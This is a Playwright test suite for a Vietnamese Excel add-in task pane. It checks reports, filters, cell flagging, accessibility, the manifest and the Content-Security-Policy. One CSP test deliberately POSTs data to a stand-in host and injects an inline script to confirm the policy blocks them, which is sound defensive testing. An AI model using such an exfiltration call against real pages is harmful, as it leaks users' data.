// The task pane in a real browser, driven as a clerk would: headless Chromium (Debian's
// package) through playwright-core, the production build of the pane served on 127.0.0.1,
// office.js replaced by a fake backed by the fake Excel host. Expected figures come from
// the engine run in Node on the same samples, never typed in here.
import { promises as fs } from 'fs';
import * as path from 'path';
import { chromium } from 'playwright-core';
import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
import { SEVERITY_FILL } from '../../src/core/plan';
import type { CheckResult, Severity, WorkbookModel } from '../../src/core';
import {
  OUT,
  PUBLIC_URL,
  RULES_FILE,
  SITE,
  ROOT,
  SHOTS,
  WORKBOOK_NAME,
  Samples,
  buildPane,
  countsOf,
  overrides,
  engineCheck,
  expectedForWorkbook,
  flagsByCell,
  loadSamples,
  modelJson,
  serve,
  workbookOfReports,
} from './support';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const WIDTH = 400;
const HEIGHT = 900;

interface FakeFill {
  pattern: string;
  color: string;
}
type Snapshot = Record<string, { value: unknown; formula?: string; error?: string; numFmt: string; fill: FakeFill; bold: boolean }>;

let server: { url: string; close: () => Promise<void> };
let browser: Browser;
let context: BrowserContext;
let page: Page;
let samples: Samples;
let byFiles: CheckResult;
let workbook: WorkbookModel;
let byWorkbook: CheckResult;
const requests: string[] = [];
const timings: Array<[string, number]> = [];
let shot = 0;

async function screenshot(name: string, fullPage = true): Promise<string> {
  const file = path.join(SHOTS, `${String(++shot).padStart(2, '0')}-${name}.png`);
  await page.screenshot({ path: file, fullPage });
  return file;
}

const byTestId = (id: string) => page.getByTestId(id);

// playwright-core has no waiting matchers (they live in @playwright/test): poll, then assert.
async function soon<T>(read: () => Promise<T>, ok: (v: T) => boolean, timeout = 10_000): Promise<T> {
  const end = Date.now() + timeout;
  let v = await read();
  while (!ok(v) && Date.now() < end) {
    await new Promise((r) => setTimeout(r, 50));
    v = await read();
  }
  return v;
}
const textOf = async (l: Locator) => ((await l.count()) === 1 ? ((await l.textContent()) ?? '').trim() : `<${await l.count()} elements>`);
async function expectText(l: Locator, want: string) {
  expect(await soon(() => textOf(l), (v) => v === want)).toBe(want);
}
async function expectContains(l: Locator, want: string) {
  expect(await soon(() => textOf(l), (v) => v.includes(want))).toContain(want);
}
async function expectChecked(l: Locator) {
  expect(await soon(() => l.isChecked(), (v) => v)).toBe(true);
}
async function expectCount(l: Locator, want: number) {
  expect(await soon(() => l.count(), (v) => v === want)).toBe(want);
}
async function expectAttr(l: Locator, name: string, want: string) {
  expect(await soon(() => l.getAttribute(name), (v) => v === want)).toBe(want);
}
async function expectVisible(l: Locator) {
  expect(await soon(() => l.isVisible(), (v) => v)).toBe(true);
}

async function finished(): Promise<number> {
  return Number(await page.locator('main').getAttribute('data-finished'));
}

/** Does `what` and waits until the pane says the operation it started is over. */
async function operation(what: () => Promise<void>): Promise<void> {
  const before = await finished();
  await what();
  await page.waitForFunction((n) => Number(document.querySelector('main')?.getAttribute('data-finished')) > n, before);
}

async function fake<T>(f: string, ...args: unknown[]): Promise<T> {
  return page.evaluate(
    ([name, a]) => {
      const c = (window as unknown as { __CHITIEU_FAKE__: Record<string, unknown> }).__CHITIEU_FAKE__;
      const v = c[name as string];
      return (typeof v === 'function' ? (v as (...x: unknown[]) => unknown)(...(a as unknown[])) : v) as T;
    },
    [f, args] as const,
  );
}

async function shownCounts(): Promise<Record<Severity, number>> {
  const read = async (s: Severity) => Number(await byTestId(`count-${s}`).getAttribute('data-count'));
  return { error: await read('error'), warning: await read('warning'), info: await read('info') };
}

async function openPane(lang = 'vi-VN'): Promise<Page> {
  const p = await context.newPage();
  p.on('request', (r) => requests.push(r.url()));
  await p.addInitScript(
    ([model, language]) => {
      const w = window as unknown as Record<string, unknown>;
      w.__CHITIEU_FAKE_MODEL__ = model;
      w.__CHITIEU_FAKE_LANG__ = language;
    },
    [modelJson(workbook), lang] as const,
  );
  await p.goto(server.url);
  await p.waitForFunction(() => Number(document.querySelector('main')?.getAttribute('data-finished')) >= 1);
  return p;
}

beforeAll(async () => {
  const t0 = Date.now();
  await fs.rm(OUT, { recursive: true, force: true });
  await fs.mkdir(SHOTS, { recursive: true });
  samples = await loadSamples();
  byFiles = engineCheck(samples.rules, samples.reports);
  workbook = workbookOfReports(samples, byFiles);
  byWorkbook = await expectedForWorkbook(workbook, samples);
  await buildPane();
  timings.push(['dựng ngăn (webpack production + office.js giả)', Date.now() - t0]);
  server = await serve();
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
  context = await browser.newContext({ viewport: { width: WIDTH, height: HEIGHT }, locale: 'vi-VN' });
  // Every page keeps the Content-Security-Policy violations the browser reports to it.
  await context.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI} (${e.sourceFile}:${e.lineNumber})`));
  });
  page = await openPane();
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (timings.length) console.log(timings.map(([k, v]) => `${k}: ${(v / 1000).toFixed(1)} s`).join('\n'));
});


describe('task pane in Chromium', () => {
  test('opens in Vietnamese, lists the workbook sheets, asks for rules', async () => {
    await expectText(page.getByRole('heading', { level: 1 }), 'Kiểm tra chỉ tiêu');
    expect(await page.evaluate(() => document.documentElement.lang)).toBe('vi');
    await expectContains(byTestId('workbook-name'), WORKBOOK_NAME);
    await expectChecked(page.getByRole('radio', { name: `Tất cả (${workbook.sheets.length} trang)` }));
    // No rules sheet in the workbook yet: the rules come from a file.
    await expectChecked(page.getByRole('radio', { name: 'Tệp chỉ tiêu trên máy' }));
    await screenshot('mo-ngan');
  });

  test('checks the six sample report files against the rules file', async () => {
    await byTestId('rules-input').setInputFiles(RULES_FILE);
    await expectContains(byTestId('rules-file'), 'chi-tieu-2023.xlsx');
    await byTestId('use-workbook').uncheck();
    // Five picked at once, the sixth dropped on the pane.
    const [dropped, ...picked] = [...samples.reportFiles].reverse();
    await byTestId('report-input').setInputFiles(picked);
    const bytes = (await fs.readFile(dropped)).toString('base64');
    await page.evaluate(
      ([name, b64]) => {
        const raw = atob(b64);
        const data = new Uint8Array(raw.length);
        for (let i = 0; i < raw.length; i++) data[i] = raw.charCodeAt(i);
        const dt = new DataTransfer();
        dt.items.add(new File([data], name));
        const zone = document.querySelector('[data-testid="drop-zone"]')!;
        zone.dispatchEvent(new DragEvent('dragover', { dataTransfer: dt, bubbles: true, cancelable: true }));
        zone.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
      },
      [path.basename(dropped), bytes] as const,
    );
    await expectCount(byTestId('file-list').locator('li'), samples.reportFiles.length);
    await screenshot('them-tep');

    // The progress bar shows while the files are read (too briefly for a screenshot).
    await page.evaluate(() => {
      const w = window as unknown as { __sawProgress: boolean };
      w.__sawProgress = false;
      new MutationObserver(() => {
        if (document.querySelector('[data-testid="progress"][role="progressbar"], [data-testid="progress"] [role="progressbar"]')) w.__sawProgress = true;
      }).observe(document.body, { childList: true, subtree: true, attributes: true });
    });
    const runsBefore = await fake<number>('runs');
    await operation(() => byTestId('check').click());
    expect(await page.evaluate(() => (window as unknown as { __sawProgress: boolean }).__sawProgress)).toBe(true);
    await expectCount(byTestId('progress'), 0);
    const expected = countsOf(byFiles);
    expect(await shownCounts()).toEqual(expected);
    console.log(`Sáu tệp mẫu: ${expected.error} lỗi, ${expected.warning} cảnh báo, ${expected.info} thông tin (theo bộ máy kiểm tra trong Node).`);
    await expectCount(page.locator('[data-testid="finding"]'), byFiles.findings.length);
    const missing = byFiles.units.filter((u) => u.status === 'missing').length;
    await expectText(byTestId('units-checked'), `${byFiles.units.length - missing} đơn vị đã kiểm tra`);
    await expectText(byTestId('units-missing'), `${missing} chưa gửi báo cáo`);
    await expectCount(page.locator('[data-testid="unit"]'), byFiles.units.length);
    for (const u of byFiles.units) await expectCount(page.locator(`[data-testid="unit"][data-status="${u.status}"]`, { hasText: u.unit }), 1);
    // Files are read in the pane: only the sheet list was asked of Excel, nothing written.
    expect((await fake<number>('runs')) - runsBefore).toBe(1);
    expect(await fake<string[]>('sheetNames')).toEqual(workbook.sheets.map((s) => s.name));
    // Findings in files are not links into the workbook.
    await expectCount(byTestId('goto'), 0);
    await screenshot('kiem-tra-tep');
  });

  test('inserts the sample rules as ordinary sheets, once', async () => {
    await operation(() => byTestId('insert-sample').click());
    await expectAttr(byTestId('notice'), 'data-intent', 'success');
    const names = await fake<string[]>('sheetNames');
    expect(names).toEqual(expect.arrayContaining(['Chỉ tiêu', 'Kiểm tra chéo', 'Đơn vị']));
    // Not registered as the add-in's output: a rollup run must never delete them.
    expect(await fake<unknown[]>('names')).toEqual([]);
    await expectChecked(page.getByRole('radio', { name: 'Trang "Chỉ tiêu" của sổ tính này' }));
    await expectText(byTestId('rules-status'), 'Đã thấy trang "Chỉ tiêu" trong sổ tính.');
    // The rules sheets are not offered as reports.
    await byTestId('use-workbook').check();
    await expectVisible(page.getByRole('radio', { name: `Tất cả (${workbook.sheets.length} trang)` }));

    await operation(() => byTestId('insert-sample').click());
    await expectAttr(byTestId('notice'), 'data-intent', 'warning');
    await expectContains(byTestId('notice'), 'không ghi đè');
    expect(await fake<string[]>('sheetNames')).toEqual(names);
  });

  test("checks the workbook's own sheets against its rules sheets", async () => {
    await byTestId('remove-all-files').click();
    await expectCount(byTestId('file-list'), 0);
    await operation(() => byTestId('check').click());
    expect(await shownCounts()).toEqual(countsOf(byWorkbook));
    await expectCount(page.locator('[data-testid="finding"]'), byWorkbook.findings.length);
    const local = byWorkbook.findings.filter((f) => f.file === WORKBOOK_NAME && f.sheet && f.cell).length;
    expect(local).toBeGreaterThan(0);
    await expectCount(byTestId('goto'), local);
    await screenshot('kiem-tra-so-tinh');
  });

  test('filters the findings by unit, severity and kind', async () => {
    const all = byWorkbook.findings;
    const items = page.locator('[data-testid="finding"]');
    const unitWithMost = [...new Set(all.map((f) => f.unit))].sort((a, b) => all.filter((f) => f.unit === b).length - all.filter((f) => f.unit === a).length)[0];
    await byTestId('filter-unit').selectOption(unitWithMost);
    const ofUnit = all.filter((f) => f.unit === unitWithMost);
    await expectCount(items, ofUnit.length);
    expect(ofUnit.length).toBeLessThan(all.length);
    for (const u of await items.evaluateAll((els) => els.map((e) => e.getAttribute('data-unit')))) expect(u).toBe(unitWithMost);

    await byTestId('filter-severity').selectOption('warning');
    await expectCount(items, ofUnit.filter((f) => f.severity === 'warning').length);

    await byTestId('filter-unit').selectOption({ index: 0 });
    await expectCount(items, all.filter((f) => f.severity === 'warning').length);
    await byTestId('filter-kind').selectOption('shortfall');
    const both = all.filter((f) => f.severity === 'warning' && f.kind === 'shortfall');
    await expectCount(items, both.length);
    await expectText(byTestId('findings-heading'), `Phát hiện (${both.length}/${all.length})`);
    await screenshot('loc');

    await byTestId('filter-severity').selectOption('');
    await byTestId('filter-kind').selectOption('');
    await expectCount(items, all.length);
  });

  test('clicking a finding of this workbook activates its sheet and selects its cell', async () => {
    const target = byWorkbook.findings.find((f) => f.file === WORKBOOK_NAME && f.sheet && f.cell && f.unit !== '')!;
    await operation(() => page.getByRole('button', { name: `Đến ô ${target.sheet}!${target.cell}`, exact: true }).first().click());
    expect(await fake<{ sheet: string; address: string }>('selection')).toEqual({ sheet: target.sheet, address: target.cell });
    expect(await fake<string>('active')).toBe(target.sheet);
  });

  test('a finding on a sheet the user hid: a warning that names it, and "Hiện trang" shows it and goes to the cell', async () => {
    const target = byWorkbook.findings.find((f) => f.file === WORKBOOK_NAME && f.sheet && f.cell && f.unit !== '')!;
    await fake('setVisibility', target.sheet, 'Hidden');
    await operation(() => page.getByRole('button', { name: `Đến ô ${target.sheet}!${target.cell}`, exact: true }).first().click());
    await expectAttr(byTestId('notice'), 'data-intent', 'warning');
    await expectContains(byTestId('notice'), `trang "${target.sheet}"`);
    expect(await fake<string>('visibility', target.sheet)).toBe('Hidden');
    await screenshot('trang-an');
    await operation(() => byTestId('show-sheet').click());
    await expectAttr(byTestId('notice'), 'data-intent', 'success');
    expect(await fake<string>('visibility', target.sheet)).toBe('Visible');
    expect(await fake<{ sheet: string; address: string }>('selection')).toEqual({ sheet: target.sheet, address: target.cell });
    expect(await fake<string>('active')).toBe(target.sheet);
  });

  test('a second click on "Kiểm tra" during a run starts no second run', async () => {
    const check = byTestId('check');
    let before = await fake<number>('runs');
    await operation(() => check.click());
    const perRun = (await fake<number>('runs')) - before;
    expect(perRun).toBeGreaterThan(0);

    // Two clicks in one task: the second lands before React renders the busy state.
    before = await fake<number>('runs');
    await operation(() => check.evaluate((b: HTMLElement) => (b.click(), b.click())));
    await page.waitForTimeout(300);
    expect((await fake<number>('runs')) - before).toBe(perRun);

    // A click while a slow run is going on.
    await page.evaluate(() => ((window as unknown as { __CHITIEU_FAKE__: { syncDelayMs: number } }).__CHITIEU_FAKE__.syncDelayMs = 150));
    before = await fake<number>('runs');
    const f0 = await finished();
    await check.click();
    await expectAttr(check, 'aria-disabled', 'true');
    await expectAttr(page.locator('main'), 'aria-busy', 'true');
    await expectText(check, 'Đang kiểm tra…');
    await screenshot('dang-kiem-tra', false);
    await check.click({ force: true });
    await check.evaluate((b: HTMLElement) => b.click());
    await page.waitForFunction((n) => Number(document.querySelector('main')?.getAttribute('data-finished')) > n, f0);
    await page.waitForTimeout(400);
    expect((await fake<number>('runs')) - before).toBe(perRun);
    expect(await finished()).toBe(f0 + 1);
    await page.evaluate(() => ((window as unknown as { __CHITIEU_FAKE__: { syncDelayMs: number } }).__CHITIEU_FAKE__.syncDelayMs = 0));
    expect(await shownCounts()).toEqual(countsOf(byWorkbook));
  });

  let before: Record<string, Snapshot> = {};
  const reportSheets = () => workbook.sheets.map((s) => s.name);

  test('"Đánh dấu trên bảng tính" fills the flagged cells of the report sheets', async () => {
    before = {};
    for (const s of reportSheets()) before[s] = await fake<Snapshot>('snapshot', s);
    await operation(() => byTestId('flag').click());
    await expectAttr(byTestId('notice'), 'data-intent', 'success');
    const flags = flagsByCell(byWorkbook, WORKBOOK_NAME);
    const onReports = [...flags.values()].filter((f) => reportSheets().includes(f.sheet));
    expect(onReports.length).toBeGreaterThan(0);
    for (const f of onReports) {
      const snap = await fake<Snapshot>('snapshot', f.sheet);
      expect([f.sheet, f.cell, snap[f.cell]?.fill]).toEqual([f.sheet, f.cell, { pattern: 'Solid', color: `#${SEVERITY_FILL[f.severity]}`, patternColor: expect.any(String) }]);
    }
    // Values and formulas are never touched, and unflagged cells keep their fill.
    for (const s of reportSheets()) {
      const now = await fake<Snapshot>('snapshot', s);
      for (const [addr, cell] of Object.entries(now)) {
        const old = before[s][addr];
        expect([s, addr, cell.value, cell.formula, cell.error]).toEqual([s, addr, old?.value ?? null, old?.formula, old?.error]);
        if (!flags.has(`${s}!${addr}`)) expect([s, addr, cell.fill]).toEqual([s, addr, old?.fill ?? cell.fill]);
      }
    }
    await screenshot('danh-dau');
  });

  test('"Xóa đánh dấu" leaves every cell exactly as before', async () => {
    await operation(() => byTestId('clear').click());
    await expectAttr(byTestId('notice'), 'data-intent', 'success');
    for (const s of reportSheets()) expect([s, await fake<Snapshot>('snapshot', s)]).toEqual([s, before[s]]);
    expect(await fake<string[]>('sheetNames')).toEqual([...reportSheets(), 'Chỉ tiêu', 'Kiểm tra chéo', 'Đơn vị']);
  });

  test('an Office error ends in a readable message and leaves no half-written rollup', async () => {
    const sheetsBefore = await fake<string[]>('sheetNames');
    // writePlan's second sync writes the sheets: let it apply a few operations, then fail.
    await page.evaluate(() => (window as unknown as { __CHITIEU_FAKE__: { failSync(n: number, ops: number): void } }).__CHITIEU_FAKE__.failSync(2, 12));
    await operation(() => byTestId('rollup').click());
    const notice = byTestId('notice');
    await expectAttr(notice, 'data-intent', 'error');
    await expectContains(notice, 'Không tạo được bảng tổng hợp');
    await expectContains(notice, 'sổ tính đã được trả lại như trước');
    expect(await fake<string[]>('sheetNames')).toEqual(sheetsBefore);
    await screenshot('loi-office');

    // A failed read during a check is just as readable, and the previous result stays.
    await page.evaluate(() => (window as unknown as { __CHITIEU_FAKE__: { failSync(n: number, ops: number): void } }).__CHITIEU_FAKE__.failSync(1, 0));
    await operation(() => byTestId('check').click());
    await expectAttr(notice, 'data-intent', 'error');
    await expectContains(notice, 'Không kiểm tra được');
    expect(await shownCounts()).toEqual(countsOf(byWorkbook));
  });

  test('"Tạo bảng tổng hợp" writes the rollup sheets', async () => {
    await operation(() => byTestId('rollup').click());
    await expectAttr(byTestId('notice'), 'data-intent', 'success');
    const names = await fake<string[]>('sheetNames');
    expect(names).toEqual(expect.arrayContaining(['Tổng hợp', 'Tỷ lệ', 'Kết quả kiểm tra']));
    expect(await fake<string>('active')).toBe('Tổng hợp');
    // Output sheets are not offered as reports afterwards.
    await expectVisible(page.getByRole('radio', { name: `Tất cả (${workbook.sheets.length} trang)` }));
    const findingsSheet = await fake<Snapshot>('snapshot', 'Kết quả kiểm tra');
    const rows = new Set(Object.keys(findingsSheet).map((a) => Number(/\d+/.exec(a)![0])));
    expect(rows.size).toBeGreaterThanOrEqual(byWorkbook.findings.length);
    await screenshot('tong-hop');
  });

  test('works with the keyboard alone: Tab reaches every button in order, Enter and Space check', async () => {
    // Start from the top of the pane, as a keyboard user arriving in it does.
    await page.evaluate(() => {
      const h1 = document.querySelector('main h1') as HTMLElement;
      h1.tabIndex = -1;
      h1.focus();
      h1.removeAttribute('tabindex');
    });
    const seen: string[] = [];
    for (let i = 0; i < 60; i++) {
      await page.keyboard.press('Tab');
      const id = await page.evaluate(() => {
        const el = document.activeElement as HTMLElement | null;
        if (!el || el === document.body) return '';
        return el.getAttribute('data-testid') || el.getAttribute('aria-label') || (el as HTMLInputElement).labels?.[0]?.textContent || el.textContent?.trim() || el.tagName;
      });
      seen.push(id);
      if (id === 'rollup') break;
    }
    console.log(`Thứ tự phím Tab: ${seen.join(' → ')}`);
    // Every control once, in reading order; each radio group is one stop (arrows move inside it).
    expect(seen).toEqual([
      'help-toggle',
      'Trang "Chỉ tiêu" của sổ tính này',
      'insert-sample',
      'use-workbook',
      'refresh',
      `Tất cả (${workbook.sheets.length} trang)`,
      'add-files',
      'check',
      'flag',
      'clear',
      'rollup',
    ]);

    for (let i = 0; i < 3; i++) await page.keyboard.press('Shift+Tab');
    expect(await page.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('check');
    let runs = await fake<number>('runs');
    await operation(() => page.keyboard.press('Enter'));
    expect(await fake<number>('runs')).toBeGreaterThan(runs);
    runs = await fake<number>('runs');
    await operation(() => page.keyboard.press('Space'));
    expect(await fake<number>('runs')).toBeGreaterThan(runs);
    expect(await page.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('check');
    expect(await shownCounts()).toEqual(countsOf(byWorkbook));
  });

  test('axe finds no serious or critical accessibility violation', async () => {
    const axeSource = await fs.readFile(require.resolve('axe-core/axe.min.js'), 'utf8');
    const check = async () => {
      // Evaluated through the browser's debugging protocol: a <script> tag of the test's own
      // would be refused by the page's Content-Security-Policy, and reported as a violation.
      await page.evaluate(axeSource);
      return page.evaluate(async () => {
        const axe = (window as unknown as { axe: { run(ctx: Document, o: object): Promise<{ violations: Array<{ id: string; impact: string; help: string; nodes: Array<{ target: unknown }> }> }> } }).axe;
        const r = await axe.run(document, { resultTypes: ['violations'] });
        return r.violations.map((v) => ({ id: v.id, impact: v.impact, help: v.help, nodes: v.nodes.length, first: JSON.stringify(v.nodes[0]?.target) }));
      });
    };
    // The pane with results, and with the sheet picker and file list open.
    const withResults = await check();
    await page.getByRole('radio', { name: 'Chỉ các trang chọn dưới đây' }).check();
    await byTestId('report-input').setInputFiles(samples.reportFiles.slice(0, 2));
    const withLists = await check();
    const all = [...withResults, ...withLists];
    console.log(`axe: ${all.length ? all.map((v) => `${v.impact} ${v.id} (${v.nodes})`).join(', ') : 'không có vi phạm nào'}`);
    expect(all.filter((v) => v.impact === 'serious' || v.impact === 'critical')).toEqual([]);
    await screenshot('chon-trang');
  });

  test('the guard of old webviews stayed quiet while the pane ran', async () => {
    expect(await page.evaluate(() => (window as unknown as { chitieuGuard: { shown(): boolean } }).chitieuGuard.shown())).toBe(false);
    expect(await page.locator('#guard').isVisible()).toBe(false);
  });

  test.each([
    ['a bundle that does not parse', 'this is not JavaScript (((', ''],
    ['a bundle that throws before the pane is on screen', 'throw new Error("lỗi khởi động")', ''],
    ['a bundle that does not parse, Office in English', 'this is not JavaScript (((', '?_host_Info=Excel$Win32$16.01$en-US$$$$0'],
  ])('%s: the page says what to do instead', async (_what, bundle, search) => {
    overrides.set('/taskpane.js', bundle);
    const p = await context.newPage();
    try {
      await p.goto(server.url + search);
      await p.waitForFunction(() => document.readyState === 'complete');
      const english = search.includes('en-US');
      await expectVisible(p.locator(english ? '#guard-en' : '#guard-vi'));
      expect(await p.locator(english ? '#guard-vi' : '#guard-en').isVisible()).toBe(false);
      // Chromium could run the pane: the message says its files failed, and lists the other ways.
      const box = p.locator(english ? '#guard-en' : '#guard-vi');
      expect(await box.locator('.guard-broken').isVisible()).toBe(true);
      expect(await box.locator('li').count()).toBe(4);
      expect(await box.textContent()).toContain('chitieu check');
      expect(await p.locator('#root').innerHTML()).toBe('');
      await p.screenshot({ path: path.join(SHOTS, `guard-${english ? 'en' : 'vi'}-${bundle.startsWith('throw') ? 'throws' : 'parse'}.png`) });
    } finally {
      overrides.delete('/taskpane.js');
      await p.close();
    }
  });

  test('an engine older than ES2019 (Internet Explorer 11, the first Edge) is told the ways that work', async () => {
    overrides.set('/taskpane.js', 'var x = a?.b;');
    const p = await context.newPage();
    try {
      // What such an engine lacks, taken away before any script of the page runs.
      await p.addInitScript(() => delete (Object as { fromEntries?: unknown }).fromEntries);
      await p.goto(server.url);
      await expectVisible(p.locator('#guard-vi .guard-old').first());
      expect(await p.locator('#guard-vi .guard-broken').isVisible()).toBe(false);
      expect(await p.locator('#guard-vi').textContent()).toContain('WebView2');
      await p.screenshot({ path: path.join(SHOTS, 'guard-webview-cu.png') });
    } finally {
      overrides.delete('/taskpane.js');
      await p.close();
    }
  });

  test('in English when Office says so', async () => {
    const en = await openPane('en-US');
    await expectText(en.getByRole('heading', { level: 1 }), 'Target check');
    await expectText(en.getByTestId('check'), 'Check');
    expect(await en.evaluate(() => document.documentElement.lang)).toBe('en');
    await en.close();
  });

  test('help inside the pane: what it does, the rules workbook with the sample button, each finding kind, unreadable files, Office versions', async () => {
    await byTestId('help-toggle').click();
    const help = byTestId('help');
    await expectVisible(help);
    expect(await byTestId('help-toggle').getAttribute('aria-expanded')).toBe('true');
    for (const h of ['Công cụ làm gì', 'Bảng chỉ tiêu', 'Các loại phát hiện', 'Khi tệp không đọc được', 'Phiên bản Office'])
      await expectVisible(help.getByRole('heading', { name: h, level: 3 }));
    // Every kind of finding the engine gives, each with its meaning.
    const kinds = await help.locator('li[data-kind]').evaluateAll((els) => els.map((e) => e.getAttribute('data-kind') ?? ''));
    for (const f of [...byFiles.findings, ...byWorkbook.findings]) expect([f.kind, kinds.includes(f.kind)]).toEqual([f.kind, true]);
    expect(await byTestId('help-versions').locator('tbody tr').count()).toBe(6);
    await expectVisible(byTestId('help-insert-sample'));
    await screenshot('huong-dan');
    const axeSource = await fs.readFile(require.resolve('axe-core/axe.min.js'), 'utf8');
    await page.evaluate(axeSource);
    const violations = await page.evaluate(async () => {
      const axe = (window as unknown as { axe: { run(ctx: Element, o: object): Promise<{ violations: Array<{ id: string; impact: string }> }> } }).axe;
      return (await axe.run(document.querySelector('#help-panel')!, { resultTypes: ['violations'] })).violations.map((v) => `${v.impact} ${v.id}`);
    });
    expect(violations).toEqual([]);
    await byTestId('help-toggle').click();
    await expectCount(byTestId('help'), 0);
  });

  test('help.html, the support page of the manifest, in Vietnamese and in English', async () => {
    const p = await context.newPage();
    try {
      await p.goto(server.url.replace('taskpane.html', 'help.html'));
      await expectText(p.getByRole('heading', { level: 1 }), 'Kiểm tra chỉ tiêu – Hướng dẫn');
      await expectVisible(p.getByRole('heading', { name: 'Phiên bản Office', level: 2 }));
      // Outside Excel there is no workbook: no insert button.
      expect(await p.getByTestId('help-insert-sample').count()).toBe(0);
      await p.getByTestId('help-language').click();
      await expectText(p.getByRole('heading', { level: 1 }), 'Target check – Help');
      expect(await p.evaluate(() => document.documentElement.lang)).toBe('en');
      expect(await p.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
    } finally {
      await p.close();
    }
  });

  test("the manifest the build wrote points at the office's address, at files the build wrote", async () => {
    const xml = await fs.readFile(path.join(SITE, 'manifest.xml'), 'utf8');
    const urls = [...xml.matchAll(/DefaultValue="(https:[^"]+)"/g)].map((m) => m[1]);
    expect(urls.length).toBeGreaterThanOrEqual(9);
    for (const u of urls) {
      expect(u.startsWith(PUBLIC_URL)).toBe(true);
      const file = path.join(SITE, decodeURIComponent(u.slice(PUBLIC_URL.length)));
      expect([u, await fs.stat(file).then((s) => s.isFile(), () => false)]).toEqual([u, true]);
    }
    expect(xml).toContain('<SourceLocation DefaultValue="https://chitieu.example.vn/kiem-tra/taskpane.html"/>');
    expect(xml).toContain('<SupportUrl DefaultValue="https://chitieu.example.vn/kiem-tra/help.html"/>');
    expect([...xml.matchAll(/<AppDomain>([^<]*)<\/AppDomain>/g)].map((m) => m[1])).toEqual(['https://chitieu.example.vn']);
    expect(xml).not.toContain('localhost');
  });

  test("the production page's Content-Security-Policy was in force, and no step broke it", async () => {
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toContain("script-src 'self' https://appsforoffice.microsoft.com");
    expect(csp).toContain("connect-src 'self'");
    expect(csp).not.toMatch(/unsafe-eval/);
    // Every step above ran on `page`: check, flag, clear, rollup, filters, hidden sheet, help.
    expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
    // The policy bites: a request to another origin and an inline script are refused and reported.
    const p = await context.newPage();
    try {
      await p.goto(server.url);
      await p.waitForFunction(() => Number(document.querySelector('main')?.getAttribute('data-finished')) >= 1);
      await p.evaluate(async () => {
        await fetch('https://example.invalid/upload', { method: 'POST', body: 'số liệu' }).catch(() => undefined);
        const s = document.createElement('script');
        s.textContent = 'window.__inline = true;';
        document.body.appendChild(s);
      });
      const seen = await soon(() => p.evaluate(() => (window as unknown as { __csp: string[] }).__csp), (v) => v.length >= 2);
      expect(seen.map((v) => v.split(' ')[0]).sort()).toEqual(['connect-src', 'script-src-elem']);
      expect(await p.evaluate(() => (window as unknown as { __inline?: boolean }).__inline)).toBeUndefined();
    } finally {
      await p.close();
    }
  });

  test('makes no request outside localhost', async () => {
    expect(requests.length).toBeGreaterThan(0);
    const outside = requests.filter((u) => {
      const url = new URL(u);
      if (url.protocol === 'data:' || url.protocol === 'blob:') return false;
      return !['127.0.0.1', 'localhost'].includes(url.hostname);
    });
    expect(outside).toEqual([]);
  });

  test('screenshot for the README', async () => {
    await page.setViewportSize({ width: WIDTH, height: HEIGHT });
    await page.getByRole('radio', { name: /^Tất cả/ }).check();
    await byTestId('remove-all-files').click();
    await operation(() => byTestId('check').click());
    // From the top of the pane to the second finding: rules, sources, summary, units, findings.
    const second = await page.locator('[data-testid="finding"]').nth(1).boundingBox();
    const scrolled = await page.evaluate(() => window.scrollY);
    const file = path.join(SHOTS, 'readme.png');
    await page.screenshot({ path: file, fullPage: true, clip: { x: 0, y: 0, width: WIDTH, height: Math.ceil(second!.y + scrolled + second!.height + 10) } });
    if (process.env.UPDATE_README_SCREENSHOT) await fs.copyFile(file, path.join(ROOT, 'docs/pane.png'));
  });
});
